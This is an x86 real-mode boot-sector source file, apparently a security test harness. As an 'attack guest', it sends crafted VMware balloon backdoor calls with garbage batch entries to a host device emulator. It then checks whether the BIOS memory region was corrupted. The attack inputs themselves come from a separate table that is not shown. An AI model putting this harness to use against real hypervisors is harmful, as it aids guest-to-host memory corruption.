/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * The attack guest: a boot sector that talks to vmw-balloon-host the way
 * no driver would.  It runs the calls of the table attack_table.c built
 * (at TABLE, after the code) one by one, writes each call's status byte to
 * the debug console (port 0xe9), and around them sums the BIOS area
 * 0xf0000-0xfffff: 'S' at the end when the sums agree, 'X' when the BIOS
 * changed, then 'E'.
 *
 * Table: u32 magic, u32 0, the first entries of the batch page (u64 each,
 * ENTRIES of them), then calls of 9 bytes (u8 command, u32 RBX, u32 RSI),
 * ending with command 0xff.  The batch page at BATCH is filled with 0xff
 * bytes (garbage entries) before the table's entries go in.
 */
	.intel_syntax noprefix
	.code16

	.set TABLE, 0x8400
	.set ENTRIES, 6
	.set BATCH_SEG, 0x7000		/* batch page at 0x70000: frame 0x70 */
	.set BALLOON_PORT, 0x5670
	.set DEBUG_PORT, 0xe9

	.section .text
	.globl _start
_start:
	xor ax, ax
	mov ds, ax
	mov ss, ax
	mov sp, 0x7c00
	/* The code past this sector and the table: 15 sectors at 0x7e00. */
	mov es, ax
	mov bx, 0x7e00
	mov ax, 0x020f
	mov cx, 0x0002
	xor dh, dh
	int 0x13
	jc fail
	jmp main

fail:
	mov al, 'F'
	out DEBUG_PORT, al
1:	hlt
	jmp 1b

	.org 510
	.word 0xaa55

main:
	cli
	cld
	call bios_sum
	mov [sum_before], ebx

	/* The batch page: garbage, then the table's entries. */
	mov ax, BATCH_SEG
	mov es, ax
	xor di, di
	mov cx, 4096
	mov al, 0xff
	rep stosb
	mov si, TABLE + 8
	xor di, di
	mov cx, ENTRIES * 2
	rep movsd

	mov bp, TABLE + 8 + ENTRIES * 8
next_call:
	movzx ecx, byte ptr [bp]
	cmp cl, 0xff
	je calls_done
	mov ebx, [bp + 1]
	mov esi, [bp + 5]
	mov eax, [TABLE]
	mov dx, BALLOON_PORT
	in eax, dx
	out DEBUG_PORT, al
	add bp, 9
	jmp next_call

calls_done:
	call bios_sum
	mov al, 'S'
	cmp ebx, [sum_before]
	je 2f
	mov al, 'X'
2:	out DEBUG_PORT, al
	mov al, 'E'
	out DEBUG_PORT, al
3:	hlt
	jmp 3b

/* EBX = the sum of the bytes at 0xf0000-0xfffff. */
bios_sum:
	push ds
	mov ax, 0xf000
	mov ds, ax
	xor si, si
	xor ebx, ebx
	xor eax, eax
	mov cx, 0		/* 65536 rounds */
4:	lodsb
	add ebx, eax
	loop 4b
	pop ds
	ret

	.balign 4
sum_before:
	.long 0
